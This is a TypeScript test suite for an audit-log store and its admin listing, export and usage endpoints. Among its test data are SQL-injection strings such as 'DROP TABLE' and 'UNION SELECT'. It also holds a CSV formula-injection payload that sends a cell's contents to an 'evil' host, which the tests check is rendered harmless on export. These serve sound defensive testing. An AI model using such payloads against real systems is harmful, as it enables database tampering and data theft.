import { env } from "cloudflare:workers";
import fc from "fast-check";
import { beforeAll, describe, expect, it, vi } from "vitest";
import type { AuditRecord } from "../../src/audit/record.ts";
import { AUDIT_COLUMNS, readAudit, walkAudit } from "../../src/audit/store.ts";
import { sumUsage, type UsageGroup } from "../../src/audit/usage.ts";
import { newId } from "../../src/wire/ids.ts";
import { call, database, auditRecord as plainRecord, problem, send } from "../admin/control-plane.ts";
import { storeAudit } from "../support/store-audit.ts";

const store = (rows: readonly Partial<AuditRecord>[]) => storeAudit(env.DB, rows);
const auditRecord = (changes: Partial<AuditRecord> = {}): AuditRecord => ({
  ...plainRecord(),
  requests: 1,
  denial: null,
  admission: "lease",
  ledger_ms: 0,
  drained: 0,
  request_id: newId("req", changes.at ?? Date.now()),
  at: Date.now(),
  ...changes,
});
const NOON = Date.parse("2026-03-01T12:00:00Z");
/** Records of one workspace, a minute apart, newest first. */
const series = (workspace: string, count: number, changes: Partial<AuditRecord> = {}): AuditRecord[] =>
  Array.from({ length: count }, (_, i) => auditRecord({ workspace, at: NOON - i * 60_000, ...changes }));
const ids = (rows: readonly { request_id: string }[]) => rows.map((row) => row.request_id);
const list = async (query: string) => {
  const { status, body } = await call(`audit?${query}`);
  expect(status).toBe(200);
  return body;
};
/** The runtime warns of `text()` on types it does not know for text. */
const textOf = async (response: Response) => new TextDecoder().decode(await response.arrayBuffer());
const ndjson = async (query: string) => {
  const text = await textOf(await send(`audit.ndjson?${query}`));
  return text
    .split("\n")
    .slice(0, -1)
    .map((line) => JSON.parse(line));
};

beforeAll(() => {
  for (const level of ["log", "error"] as const) vi.spyOn(console, level).mockImplementation(() => {});
});

describe("insertLinked", () => {
  it("knows every column of the table and no other", async () => {
    const { results } = await env.DB.prepare("SELECT name FROM pragma_table_info('audit')").all<{ name: string }>();
    expect(results.map((column) => column.name)).toEqual(AUDIT_COLUMNS);
    expect(Object.keys(auditRecord()).sort()).toEqual([...AUDIT_COLUMNS].sort());
  });

  it("stores each field as it is, with one statement and one parameter", async () => {
    const rows = [
      auditRecord({ workspace: "ws_fields" }),
      auditRecord({
        workspace: "ws_fields",
        at: Date.now() + 5,
        upstream_request_id: null,
        model: null,
        model_requested: null,
        ttfb_ms: null,
        client: `'); DROP TABLE audit;-- "x" \\ \n 😀`,
        stream: 0,
        estimated: 1,
      }),
    ];
    await store(rows);
    const stored = await env.DB.prepare("SELECT * FROM audit WHERE workspace = 'ws_fields' ORDER BY request_id").all();
    expect(stored.results).toEqual(rows);
    const { statements, env: bindings } = database();
    await storeAudit(bindings.DB, rows);
    expect(statements.length).toBe(1);
    expect(new Set(statements[0]?.match(/\?\d*/g))).toEqual(new Set(["?1"]));
  });

  it("U-05 takes a record once, however often it comes, and keeps the first", async () => {
    const rows = series("ws_twice", 20);
    await store(rows);
    await store(rows);
    await store([...rows.slice(0, 3), ...rows.slice(0, 3)]);
    const [first] = rows;
    if (first) await store([{ ...first, status: 500, cost_micro_usd: 9 }]);
    const { data } = await list("workspace=ws_twice");
    expect(ids(data)).toEqual(ids(rows));
    expect(data[0]).toMatchObject({ status: 200, cost_micro_usd: 100 });
    await store([]);
  });
});

describe("insertLinked with fields left out", () => {
  const whole = (changes: Partial<AuditRecord> = {}) => auditRecord({ workspace: "ws_lean", ...changes });
  const lean = (row: AuditRecord) =>
    Object.fromEntries(
      Object.entries(row).filter(
        ([name, value]) => value !== null && value !== 0 && !(name === "requests" && value === 1),
      ),
    );

  it("reads null, 0 and one call for what is not there", async () => {
    const row = whole({
      at: NOON,
      upstream_request_id: null,
      model: null,
      stream: 0,
      input_tokens: 0,
      cost_micro_usd: 0,
      ttfb_ms: null,
      duration_ms: 0,
      client: null,
      ledger_ms: null,
    });
    await store([lean(row) as Partial<AuditRecord>]);
    const stored = await env.DB.prepare("SELECT * FROM audit WHERE request_id = ?").bind(row.request_id).first();
    expect(stored).toEqual(row);
  });

  it.each(["request_id", "key_id", "workspace", "at", "route", "method", "dialect", "status", "outcome"] as const)(
    "U-04 refuses all of them, and never passes one over in silence, when %s is missing",
    async (name) => {
      const good = whole();
      await expect(store([good, { ...whole(), [name]: undefined }])).rejects.toThrow(/NOT NULL constraint failed/);
      const left = await env.DB.prepare("SELECT 1 FROM audit WHERE request_id = ?").bind(good.request_id).first();
      expect(left).toBeNull();
    },
  );
});

describe("GET /admin/audit", () => {
  it("answers rows with the names of the design, times and flags readable", async () => {
    const record = auditRecord({ workspace: "ws_shown", at: NOON, estimated: 1 });
    await store([record]);
    const { data } = await list("workspace=ws_shown");
    expect(data).toEqual([
      { ...record, at: "2026-03-01T12:00:00.000Z", stream: true, estimated: true, drained: false, replayed: false },
    ]);
  });

  it("pages through every row once, newest first, whatever the size of the pages", async () => {
    const rows = series("ws_pages", 31);
    await store(rows);
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: 33 }), async (limit) => {
        const seen: string[] = [];
        let cursor = "";
        do {
          const body = await list(`workspace=ws_pages&limit=${limit}${cursor && `&cursor=${cursor}`}`);
          expect(body.data.length).toBeLessThanOrEqual(limit);
          expect(body.has_more).toBe(body.next_cursor !== null);
          seen.push(...ids(body.data));
          cursor = body.next_cursor ?? "";
        } while (cursor);
        expect(seen).toEqual(ids(rows));
      }),
      { numRuns: 10, examples: [[1], [30], [31], [32]] },
    );
  });

  it("looks at a bounded number of records a page, and pages and exports still find every one (20 runs)", async () => {
    const rows = series("ws_rare", 60).map((row, i) => ({ ...row, session_id: i % 7 === 0 ? "rare" : null }));
    await store(rows);
    const filter = { workspace: "ws_rare", session: "rare", from: NOON - 200 * 60_000, to: NOON + 1 };
    const expected = ids(rows.filter((row) => row.session_id === "rare"));
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: 40 }), fc.integer({ min: 1, max: 20 }), async (scanned, limit) => {
        const seen: string[] = [];
        let place: { cursor?: string } = {};
        for (;;) {
          const { rows: page, next } = await readAudit(env.DB, { ...filter, ...place }, limit, scanned);
          expect(page.length).toBeLessThanOrEqual(Math.min(limit, scanned));
          seen.push(...ids(page));
          if (next === null) break;
          place = { cursor: next };
        }
        expect(seen).toEqual(expected);
        const walked: string[] = [];
        for await (const page of walkAudit(env.DB, filter, limit, Number.POSITIVE_INFINITY, scanned)) {
          walked.push(...ids(page));
        }
        expect(walked).toEqual(expected);
      }),
      {
        numRuns: 20,
        examples: [
          [1, 1],
          [7, 1],
          [60, 20],
          [61, 20],
        ],
      },
    );
  });

  it("goes on where it was when newer rows arrive between two pages", async () => {
    const rows = series("ws_moving", 10);
    await store(rows);
    const first = await list("workspace=ws_moving&limit=5");
    await store([auditRecord({ workspace: "ws_moving", at: NOON + 1 })]);
    const second = await list(`workspace=ws_moving&limit=5&cursor=${first.next_cursor}`);
    expect(ids([...first.data, ...second.data])).toEqual(ids(rows));
    expect(second.next_cursor).toBeNull();
  });

  it("takes 100 by default, 500 at most", async () => {
    await store(series("ws_sizes", 101));
    expect((await list("workspace=ws_sizes")).data.length).toBe(100);
    expect((await list("workspace=ws_sizes&limit=500")).data.length).toBe(101);
  });

  it("filters by each field, and by several at once", async () => {
    const key = newId("key", NOON);
    const workspace = "ws_filter";
    const conversation = `${newId("conv", NOON)}0123456789abcdef`;
    const odd: Partial<AuditRecord>[] = [
      { key_id: key },
      { model_requested: "alias-x", model: "claude-x" },
      { status: 429 },
      { outcome: "client_gone" },
      { route: "/v1/models/:id" },
      { session_id: "session 1" },
      { denial: "workspace_budget", status: 429, outcome: "error", admission: null },
      { outcome: "unreported", requests: -3, drained: 1 },
      { conversation_id: conversation, turn_id: "turn_1" },
      { template: "greeting", template_version: 3, subject: "repo:a/b", findings: '{"EMAIL":2}' },
    ];
    const rows = odd.map((changes, i) => auditRecord({ workspace, at: NOON + i, ...changes }));
    await store([...rows, auditRecord({ workspace: "ws_other", key_id: key })]);
    const found = async (query: string) => ids((await list(`workspace=${workspace}&${query}`)).data);
    const one = (i: number) => [rows[i]?.request_id];
    expect(await found(`key=${key}`)).toEqual(one(0));
    expect(await found("model=alias-x")).toEqual(one(1));
    expect(await found("model=claude-x")).toEqual(one(1));
    expect(await found("status=429&denial=workspace_budget")).toEqual(one(6));
    expect(await found("denial=workspace_budget")).toEqual(one(6));
    expect(await found("outcome=unreported")).toEqual(one(7));
    expect(await found("status=429")).toEqual([...one(6), ...one(2)]);
    expect(await found("outcome=client_gone")).toEqual(one(3));
    expect(await found("route=/v1/models/:id")).toEqual(one(4));
    expect(await found("session=session%201")).toEqual(one(5));
    expect(await found(`conversation=${conversation}`)).toEqual(one(8));
    expect(await found(`conversation=${newId("conv", NOON)}0123456789abcdef`)).toEqual([]);
    expect(await found("template=greeting")).toEqual(one(9));
    expect(await found("template=greetin")).toEqual([]);
    expect(await found(`key=${key}&status=429`)).toEqual([]);
    expect((await list(`key=${key}`)).data.length).toBe(2);
    expect((await found("")).length).toBe(10);
  });

  it("takes `from` inclusive and `to` exclusive, to the millisecond and in any time zone", async () => {
    const rows = [2, 1, 0].map((i) => auditRecord({ workspace: "ws_times", at: NOON + i }));
    await store(rows);
    const found = async (query: string) => (await list(`workspace=ws_times&${query}`)).data.length;
    expect(await found("from=2026-03-01T12:00:00Z")).toBe(3);
    expect(await found("from=2026-03-01T12:00:00.001Z")).toBe(2);
    expect(await found("to=2026-03-01T12:00:00.001Z")).toBe(1);
    expect(await found("from=2026-03-01T12:00:00.001Z&to=2026-03-01T12:00:00.002Z")).toBe(1);
    expect(await found("from=2026-03-01T17:30:00.001%2B05:30")).toBe(2);
    expect(await found("from=2026-03-01T12:00:00.003Z")).toBe(0);
    expect(await found("to=0000-01-01T00:00:00Z")).toBe(0);
    expect(await found("from=0000-01-01T00:00:00Z&to=9999-12-31T23:59:59Z")).toBe(3);
  });

  it.each([
    ["key=' UNION SELECT * FROM api_keys--", "key"],
    ["key=key_x", "key"],
    ["workspace=a%27b", "workspace"],
    ["model=", "model"],
    [`model=${"m".repeat(257)}`, "model"],
    ["model=a%00b", "model"],
    ["status=99", "status"],
    ["status=600", "status"],
    ["status=200 OR 1=1", "status"],
    ["outcome=fine", "outcome"],
    ["denial=all", "denial"],
    ["denial=' OR 1=1", "denial"],
    ["route=messages", "route"],
    ["route=/v1/%25", "route"],
    [`session=${"s".repeat(201)}`, "session"],
    ["conversation=conv_1", "conversation"],
    ["conversation=' UNION SELECT 1--", "conversation"],
    ["from=yesterday", "from"],
    ["to=2026-02-30T00:00:00Z", "to"],
    ["cursor=req_x", "cursor"],
    ["limit=0", "limit"],
    ["limit=1e9", "limit"],
    ["limit=-1", "limit"],
    ["user=' UNION SELECT 1--", "user"],
    ["sort=id;--", "sort"],
    ["order=(CASE WHEN 1 THEN 1 END)", "order"],
    ["fields=*", "fields"],
    ["status=200&status=200", "status"],
  ])("Q-02 Q-03 refuses ?%.60s in lists and exports", async (query, name) => {
    for (const path of ["audit", "audit.ndjson", "audit.csv"]) {
      const answer = await call(`${path}?${query}`);
      expect(problem(answer, 400, "invalid_request_error")).toMatch(new RegExp(`^${name}: `));
    }
  });

  it("takes 500 rows at most; exports are not bound by that", async () => {
    problem(await call("audit?limit=501"), 400, "invalid_request_error");
    expect((await send("audit.ndjson?limit=501")).status).toBe(200);
  });

  it("Q-03 takes LIKE's and GLOB's marks for text", async () => {
    await store(series("ws_like", 2, { session_id: "abc" }));
    for (const session of ["a%25c", "a_c", "a*", "[a]bc"]) {
      expect((await list(`workspace=ws_like&session=${session}`)).data).toEqual([]);
    }
  });
});

describe("exports", () => {
  const rows = series("ws_export", 1_200);
  beforeAll(() => store(rows));

  it("hold all of 1,200 rows, newest first", async () => {
    const response = await send("audit.ndjson?workspace=ws_export");
    expect(Object.fromEntries(response.headers)).toMatchObject({
      "content-type": "application/x-ndjson",
      "content-disposition": 'attachment; filename="audit.ndjson"',
      "cache-control": "no-store",
    });
    const text = await textOf(response);
    expect(text.endsWith("\n")).toBe(true);
    const lines = text.slice(0, -1).split("\n");
    expect(ids(lines.map((line) => JSON.parse(line)))).toEqual(ids(rows));
    expect(JSON.parse(lines[0] ?? "")).toEqual((await list("workspace=ws_export&limit=1")).data[0]);

    const csv = await send("audit.csv?workspace=ws_export");
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("content-disposition")).toBe('attachment; filename="audit.csv"');
    const [head, ...cells] = (await csv.text()).slice(0, -2).split("\r\n");
    expect(head).toBe(AUDIT_COLUMNS.join(","));
    expect(cells.map((line) => line.split(",")[0])).toEqual(ids(rows));
    expect(cells[0]?.split(",")[AUDIT_COLUMNS.indexOf("at")]).toBe("2026-03-01T12:00:00.000Z");
    expect(cells[0]?.split(",")[AUDIT_COLUMNS.indexOf("stream")]).toBe("true");
  });

  it("honour filters, limit and cursor", async () => {
    for (const limit of [1, 499, 500, 501, 1_000, 1_199, 1_200, 1_201]) {
      expect(ids(await ndjson(`workspace=ws_export&limit=${limit}`))).toEqual(ids(rows.slice(0, limit)));
    }
    const from = new Date(NOON - 99 * 60_000).toISOString();
    expect((await ndjson(`workspace=ws_export&from=${from}`)).length).toBe(100);
    expect(ids(await ndjson(`workspace=ws_export&cursor=${rows[1_000]?.request_id}`))).toEqual(ids(rows.slice(1_001)));
  });

  it("of nothing are empty: no line, or the head alone", async () => {
    expect(await textOf(await send("audit.ndjson?workspace=ws_none"))).toBe("");
    expect(await (await send("audit.csv?workspace=ws_none")).text()).toBe(`${AUDIT_COLUMNS.join(",")}\r\n`);
  });

  it("fetch as the client reads, and stop when it leaves", async () => {
    const { statements, env: bindings } = database();
    const response = await send("audit.ndjson?workspace=ws_export", { env: bindings });
    await new Promise((done) => setTimeout(done, 100));
    expect(statements.length).toBeLessThanOrEqual(3);
    const reader = response.body?.getReader();
    expect((await reader?.read())?.done).toBe(false);
    await reader?.cancel();
    await new Promise((done) => setTimeout(done, 100));
    expect(statements.length).toBeLessThanOrEqual(4);
    expect(statements.every((sql) => /LIMIT (\?|1 OFFSET \?)$/.test(sql))).toBe(true);
  });

  it("end torn and never as if complete when D1 fails on the way; before the first row it is a 503", async () => {
    for (const path of ["audit.ndjson", "audit.csv"]) {
      const torn = await send(`${path}?workspace=ws_export`, { env: database((_, nth) => nth === 3).env });
      expect(torn.status).toBe(200);
      const failure = await textOf(torn).then(
        () => "complete",
        (error) => String(error),
      );
      expect(failure).toContain("The database failed during the export.");
      problem(await call(`${path}?workspace=ws_export`, { env: database(() => true).env }), 503, "api_error");
    }
    problem(await call("audit", { env: database(() => true).env }), 503, "api_error");
    problem(await call("usage", { env: database(() => true).env }), 503, "api_error");
  });

  it("V-06 are safe to open in a spreadsheet; JSON is untouched", async () => {
    const formula = '=HYPERLINK("http://evil/?"&A1,"x")';
    await store([
      auditRecord({ workspace: "ws_formula", client: formula, session_id: "+1", agent_id: "-1", model: "@x" }),
    ]);
    const csv = await (await send("audit.csv?workspace=ws_formula")).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    for (const cell of [",'+1,", ",'-1,", ",'@x,"]) expect(csv).toContain(cell);
    const [row] = await ndjson("workspace=ws_formula");
    expect(row).toMatchObject({ client: formula, session_id: "+1", agent_id: "-1", model: "@x" });
  });
});

describe("GET /admin/usage", () => {
  const keyA = newId("key", NOON);
  const keyB = newId("key", NOON + 1);
  const DAY = 24 * 60 * 60 * 1_000;
  const span = "from=2026-02-01T00:00:00Z&to=2026-03-02T00:00:00Z";
  beforeAll(async () => {
    const workspace = "ws_usage";
    await store([
      auditRecord({ workspace, key_id: keyA, at: NOON, cost_micro_usd: 5 }),
      auditRecord({ workspace, key_id: keyA, at: NOON - DAY, cost_micro_usd: 7, model: "m2" }),
      auditRecord({ workspace, key_id: keyB, at: NOON, cost_micro_usd: 1_000, status: 500, outcome: "error" }),
      auditRecord({ workspace, key_id: keyB, at: NOON, cost_micro_usd: 1, outcome: "upstream_cut" }),
      auditRecord({ workspace: "ws_usage_2", key_id: keyB, at: NOON, model: null, model_requested: "m3" }),
    ]);
  });
  const usage = async (query: string) => (await call(`usage?${query}`)).body;

  it("sums requests, errors, every kind of token and money, the dearest first", async () => {
    const body = await usage(`workspace=ws_usage&${span}`);
    expect(body).toEqual({
      from: "2026-02-01T00:00:00.000Z",
      to: "2026-03-02T00:00:00.000Z",
      data: [
        { key_id: keyB, requests: 2, errors: 2, cost_micro_usd: 1_001, ...tokens(2) },
        { key_id: keyA, requests: 2, errors: 0, cost_micro_usd: 12, ...tokens(2) },
      ],
      has_more: false,
      next_cursor: null,
    });
    expect(await usage(`workspace=ws_usage&group_by=key&${span}`)).toEqual(body);
  });

  const tokens = (requests: number) => ({
    input_tokens: 10 * requests,
    output_tokens: 5 * requests,
    cache_creation_5m_input_tokens: requests,
    cache_creation_1h_input_tokens: 2 * requests,
    cache_read_input_tokens: 3 * requests,
    thinking_tokens: 4 * requests,
    web_search_requests: 6 * requests,
    web_fetch_requests: 7 * requests,
    unreported: 0,
    estimated: 0,
  });

  it("groups by each name, and by several", async () => {
    const groups = async (query: string, ...names: string[]) =>
      (await usage(`${query}&${span}`)).data.map((row: Record<string, unknown>) => [
        ...names.map((name) => row[name]),
        row.cost_micro_usd,
      ]);
    expect(await groups("workspace=ws_usage&group_by=workspace", "workspace")).toEqual([["ws_usage", 1_013]]);
    expect(await groups("workspace=ws_usage&group_by=model", "model")).toEqual([
      ["claude-opus-5-5", 1_006],
      ["m2", 7],
    ]);
    expect(await groups("workspace=ws_usage_2&group_by=model", "model")).toEqual([["m3", 100]]);
    expect(await groups("workspace=ws_usage&group_by=day", "day")).toEqual([
      ["2026-02-28", 7],
      ["2026-03-01", 1_006],
    ]);
    expect(await groups(`key=${keyA}&group_by=day,key`, "day", "key_id")).toEqual([
      ["2026-02-28", keyA, 7],
      ["2026-03-01", keyA, 5],
    ]);
    expect(await groups(`key=${keyB}&group_by=key,workspace`, "key_id", "workspace")).toEqual([
      [keyB, "ws_usage", 1_001],
      [keyB, "ws_usage_2", 100],
    ]);
  });

  it("counts a row for as many calls as it stands for, and tells the unreported and estimated ones apart", async () => {
    const workspace = "ws_many";
    await store([
      auditRecord({ workspace, at: NOON, requests: 5, outcome: "unreported", estimated: 1, cost_micro_usd: 50 }),
      auditRecord({ workspace, at: NOON, requests: -2, outcome: "unreported", estimated: 1, cost_micro_usd: -20 }),
      auditRecord({ workspace, at: NOON, estimated: 1, outcome: "client_gone" }),
      auditRecord({ workspace, at: NOON }),
    ]);
    for (const to of ["2026-03-02T00:00:00Z", "2026-03-01T12:30:00Z"]) {
      const { data } = await usage(`workspace=${workspace}&group_by=workspace&from=2026-03-01T00:00:00Z&to=${to}`);
      expect(data).toMatchObject([{ requests: 5, errors: 1, unreported: 3, estimated: 4, cost_micro_usd: 230 }]);
    }
  });

  it("is exact to the millisecond for any span, whole hours from the sums and the rest from the rows (60 runs)", async () => {
    const HOUR = 3_600_000;
    const workspace = "ws_exact";
    const start = Date.parse("2026-01-31T21:00:00Z");
    const moment = fc.oneof(
      fc.integer({ min: 0, max: 6 * HOUR }),
      fc.integer({ min: 0, max: 6 }).map((hours) => hours * HOUR),
      fc.tuple(fc.integer({ min: 0, max: 6 }), fc.constantFrom(-1, 1)).map(([hours, ms]) => hours * HOUR + ms),
    );
    const all: AuditRecord[] = [];
    await fc.assert(
      fc.asyncProperty(fc.array(moment, { maxLength: 12 }), moment, moment, async (times, a, b) => {
        const added = times.map((time, i) =>
          auditRecord({
            workspace,
            at: Math.max(start, start + time),
            key_id: i % 2 ? keyA : keyB,
            model: i % 3 ? "m1" : null,
            requests: i % 5 === 0 ? 3 : 1,
            outcome: i % 5 === 0 ? "unreported" : "complete",
            cost_micro_usd: time,
          }),
        );
        await store(added);
        await store(added);
        all.push(...added);
        const [from, to] = [start + Math.min(a, b), start + Math.max(a, b)];
        const inside = all.filter((row) => row.at >= from && row.at < to);
        for (const [group, key] of [
          ["key", undefined],
          ["model,day", keyA],
        ] as const) {
          const only = key === undefined ? inside : inside.filter((row) => row.key_id === key);
          const { rows } = await sumUsage(
            env.DB,
            group.split(",") as UsageGroup[],
            { from, to, workspace, ...(key ? { key } : {}) },
            1_000,
          );
          const total = (name: string) => rows.reduce((sum, row) => sum + Number(row[name]), 0);
          expect(total("requests")).toBe(only.reduce((sum, row) => sum + row.requests, 0));
          expect(total("unreported")).toBe(only.filter((row) => row.outcome === "unreported").length * 3);
          expect(total("cost_micro_usd")).toBe(only.reduce((sum, row) => sum + row.cost_micro_usd, 0));
          for (const row of group === "key" ? rows : []) {
            const mine = only.filter(({ key_id }) => key_id === row.key_id);
            expect(row.cost_micro_usd).toBe(mine.reduce((sum, { cost_micro_usd }) => sum + cost_micro_usd, 0));
          }
        }
      }),
      { numRuns: 60 },
    );
  });

  it("looks back thirty days by default", async () => {
    const now = Date.now();
    const workspace = "ws_recent";
    await store([1, 29, 31].map((days) => auditRecord({ workspace, at: now - days * DAY })));
    const body = await usage(`workspace=${workspace}&group_by=workspace`);
    expect(body.data[0].requests).toBe(2);
    expect(Date.parse(body.to) - Date.parse(body.from)).toBe(30 * DAY);
  });

  it("adds up to the rows it was made of", async () => {
    const rows = series("ws_sum", 200).map((row, i) => ({ ...row, model: `m${i % 7}`, cost_micro_usd: i * i }));
    await store(rows);
    for (const group of ["key", "workspace", "model", "day", "model,day", "workspace,key,model,day"]) {
      const { data } = await usage(`workspace=ws_sum&group_by=${group}&${span}`);
      const total = (name: string) =>
        data.reduce((sum: number, row: Record<string, number>) => sum + (row[name] ?? 0), 0);
      expect(total("requests")).toBe(200);
      expect(total("cost_micro_usd")).toBe(rows.reduce((sum, row) => sum + row.cost_micro_usd, 0));
    }
  });

  it("is bounded to 1,000 groups and says when it cut", async () => {
    const many = (count: number, workspace: string) =>
      store(series(workspace, count).map((row, i) => ({ ...row, model: `m${i}`, cost_micro_usd: i })));
    await many(1_000, "ws_fit");
    await many(1_001, "ws_cut");
    const fit = await usage(`workspace=ws_fit&group_by=model&${span}`);
    expect([fit.data.length, fit.has_more, fit.next_cursor]).toEqual([1_000, false, null]);
    const cut = await usage(`workspace=ws_cut&group_by=model&${span}`);
    expect([cut.data.length, cut.has_more, cut.next_cursor]).toEqual([1_000, true, null]);
    expect(cut.data[0].model).toBe("m1000");
  });

  it.each([
    ["group_by=", "group_by"],
    ["group_by=name", "group_by"],
    ["group_by=key,key", "group_by"],
    ["group_by=key;--", "group_by"],
    ["from=x", "from"],
    ["to=x", "to"],
    ["key=x", "key"],
    ["workspace='", "workspace"],
    ["limit=5", "limit"],
  ])("Q-02 refuses ?%s", async (query, name) => {
    const answer = await call(`usage?${query}`);
    expect(problem(answer, 400, "invalid_request_error")).toMatch(new RegExp(`^${name}: `));
  });
});
